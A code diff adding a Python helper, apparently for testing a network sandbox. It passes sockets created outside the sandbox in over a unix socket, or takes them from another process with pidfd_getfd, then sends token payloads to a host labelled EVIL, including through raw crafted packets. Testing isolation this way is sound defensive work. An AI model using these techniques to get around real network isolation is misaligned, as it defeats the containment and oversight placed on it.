@@ -1,0 +1,88 @@
+"""Sockets of somebody else's, used inside.
+
+pass.py give PATH: makes sockets outside, says `ready` and its process id, and hands them to whoever connects to the unix socket.
+pass.py take PATH TOKEN MAC: takes them from there. pass.py steal PID TOKEN MAC: takes them out of that process (pidfd_getfd).
+Either sends by each: NAME=ok|ERRNO a line; payloads are TOKEN-NAME;
+"""
+import array
+import ctypes
+import errno
+import os
+import socket
+import struct
+import sys
+
+KINDS = ["udp4", "udp6", "connected4", "connected6", "raw4", "packet"]
+EVIL, EVIL6 = "198.51.100.20", "2001:db8::20"
+FIRST = 100
+
+
+def make():
+    socks = [
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
+        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
+    ]
+    socks[2].connect((EVIL, 443))
+    socks[3].connect((EVIL6, 443))
+    socks[5].bind(("eth0", 0))
+    for at, sock in enumerate(socks):
+        os.dup2(sock.fileno(), FIRST + at)
+    return socks
+
+
+def packet(payload):
+    body = struct.pack("!HHHH", 5555, 443, 8 + len(payload), 0) + payload
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0x1234, 0, 64, 17, 0)
+    head += socket.inet_aton("198.51.100.30") + socket.inet_aton(EVIL)
+    total = sum(struct.unpack("!10H", head))
+    total = (total & 0xFFFF) + (total >> 16)
+    return head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + body
+
+
+def use(descriptors, token, mac):
+    link = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x30\x08\0"
+    for name, descriptor in zip(KINDS, descriptors):
+        payload = f"{token}-{name};".encode()
+        sock = socket.socket(fileno=descriptor)
+        try:
+            if name.startswith("udp"):
+                sock.sendto(payload, (EVIL6 if name.endswith("6") else EVIL, 443))
+            elif name.startswith("connected"):
+                sock.send(payload)
+            elif name == "raw4":
+                sock.sendto(packet(payload), (EVIL, 0))
+            else:
+                sock.send(link + packet(payload))
+            print(f"{name}=ok", flush=True)
+        except OSError as error:
+            print(f"{name}={errno.errorcode.get(error.errno, error.errno)}", flush=True)
+    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    own.sendto(f"{token}-plain;".encode(), ("198.51.100.10", 443))
+
+
+if sys.argv[1] == "give":
+    socks = make()
+    door = socket.socket(socket.AF_UNIX)
+    door.bind(sys.argv[2])
+    door.listen()
+    os.chmod(sys.argv[2], 0o777)
+    print("ready", os.getpid(), flush=True)
+    while True:
+        guest, _ = door.accept()
+        numbers = array.array("i", [sock.fileno() for sock in socks])
+        guest.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
+        guest.close()
+elif sys.argv[1] == "take":
+    door = socket.socket(socket.AF_UNIX)
+    door.connect(sys.argv[2])
+    numbers = array.array("i")
+    _, control, _, _ = door.recvmsg(1, socket.CMSG_SPACE(len(KINDS) * 4))
+    numbers.frombytes(control[0][2])
+    use(numbers, *sys.argv[3:])
+else:
+    libc = ctypes.CDLL(None, use_errno=True)
+    pidfd = libc.syscall(434, int(sys.argv[2]), 0)
+    taken = [libc.syscall(438, pidfd, FIRST + at, 0) for at in range(len(KINDS))]
+    assert min(taken) >= 0, os.strerror(ctypes.get_errno())
+    use(taken, *sys.argv[3:])
